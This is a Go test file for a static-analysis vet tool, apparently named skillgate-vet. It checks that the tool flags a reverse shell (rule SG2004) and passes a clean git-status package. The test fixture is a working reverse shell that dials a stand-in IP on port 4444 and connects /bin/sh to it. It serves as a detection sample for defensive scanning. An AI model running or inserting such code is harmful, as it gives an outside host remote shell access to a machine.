package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestVetTool builds skillgate-vet and runs it through `go vet
// -vettool` on a small module. This test uses the go command on purpose:
// it tests vet integration, not skill scanning.
func TestVetTool(t *testing.T) {
	goBin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("go command not available: cannot test go vet integration")
	}
	if testing.Short() {
		t.Skip("builds a binary")
	}
	tmp := t.TempDir()
	tool := filepath.Join(tmp, "skillgate-vet")
	build := exec.Command(goBin, "build", "-o", tool, ".")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	mod := filepath.Join(tmp, "mod")
	files := map[string]string{
		"go.mod": "module example.test/vetme\n\ngo 1.22\n",
		"main.go": `package main

import (
	"net"
	"os/exec"
)

func main() {
	c, _ := net.Dial("tcp", "203.0.113.1:4444")
	cmd := exec.Command("/bin/sh")
	cmd.Stdin = c
	cmd.Run()
}
`,
		"clean/clean.go": "package clean\n\nimport \"os/exec\"\n\n// Status runs git with fixed arguments.\nfunc Status() ([]byte, error) { return exec.Command(\"git\", \"status\").Output() }\n",
	}
	for name, src := range files {
		p := filepath.Join(mod, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	vet := exec.Command(goBin, "vet", "-vettool="+tool, "./...")
	vet.Dir = mod
	vet.Env = append(os.Environ(), "GOFLAGS=", "GOPROXY=off", "GOWORK=off")
	out, err := vet.CombinedOutput()
	if err == nil {
		t.Fatalf("go vet succeeded; want the reverse shell reported:\n%s", out)
	}
	text := string(out)
	if !strings.Contains(text, "main.go:11:2: SG2004: reverse shell") {
		t.Errorf("go vet output lacks the SG2004 report:\n%s", text)
	}
	if strings.Contains(text, "clean.go") {
		t.Errorf("go vet reported the clean package:\n%s", text)
	}
}
